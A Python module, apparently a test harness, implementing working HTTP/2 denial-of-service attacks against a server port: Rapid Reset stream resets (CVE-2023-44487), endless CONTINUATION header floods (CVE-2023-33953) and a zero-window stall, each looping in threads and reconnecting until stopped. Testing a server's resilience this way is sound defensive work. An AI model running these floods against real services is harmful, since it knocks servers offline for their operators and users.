"""Known attacks on servers of HTTP/2. Each runs in threads of its own until it is stopped, and connects again where it is cut off."""

import contextlib
import struct
import threading

from http2 import CONTINUATION, END_HEADERS, HEADERS, RST_STREAM, Connection, frame, grpc_headers, length, literal

CANCEL = struct.pack(">I", 8)
MAX_FRAME = 16384
BATCH = 100


class Attack(contextlib.AbstractContextManager):
    """`with RapidReset(port) as attack:` attacks in the meantime. `figures` counts what was sent."""

    def __init__(self, port, path, sources, connections=1):
        self.port = port
        self.path = path
        self.figures = {"connections": 0, "sent": 0}
        self._ended = threading.Event()
        self._threads = [threading.Thread(target=self._run, args=(source,), daemon=True)
                         for source in sources for _ in range(connections)]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._ended.set()
        for thread in self._threads:
            thread.join(15)

    @property
    def goes_on(self):
        return not self._ended.is_set()

    def _run(self, source):
        while self.goes_on:
            with contextlib.suppress(OSError):
                connection = self.connect(source)
                self.figures["connections"] += 1
                with contextlib.closing(connection):
                    self.strike(connection)
            self._ended.wait(0.01)

    def connect(self, source):
        return Connection(self.port, source=source)

    def strike(self, connection):
        """Sends until the server closes the connection or the attack is stopped."""
        raise NotImplementedError


class RapidReset(Attack):
    """Opens streams and resets each of them at once (CVE-2023-44487)."""

    def strike(self, connection):
        headers = grpc_headers(self.path)
        while self.goes_on and connection.drop_what_came():
            data = b""
            for _ in range(BATCH):
                stream = connection.next_stream()
                data += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
            connection.send(data)
            self.figures["sent"] += BATCH


class EndlessValue(Attack):
    """Sends a header whose one value has no end (CVE-2023-33953)."""

    def strike(self, connection):
        begin = grpc_headers(self.path) + b"\x00" + length(1) + b"a" + length(1 << 30)
        self.flood(connection, begin, b"x" * MAX_FRAME)

    def flood(self, connection, begin, more):
        stream = connection.next_stream()
        connection.send(frame(HEADERS, 0, stream, begin))
        piece = frame(CONTINUATION, 0, stream, more)
        while self.goes_on and connection.drop_what_came():
            connection.send(piece)
            self.figures["sent"] += len(piece)


class EndlessHeader(EndlessValue):
    """Sends a header of small fields that has no end."""

    def strike(self, connection):
        field = literal(b"a", b"b")
        self.flood(connection, grpc_headers(self.path), field * (MAX_FRAME // len(field)))


class ZeroWindow(Attack):
    """Asks for answers and takes none of them."""

    def __init__(self, port, path, sources, connections=1, calls=50):
        super().__init__(port, path, sources, connections)
        self._calls = calls

    def connect(self, source):
        return Connection(self.port, window=0, source=source)

    def strike(self, connection):
        for _ in range(self._calls):
            connection.call(self.path)
            self.figures["sent"] += 1
        while self.goes_on and connection.drop_what_came():
            self._ended.wait(0.1)
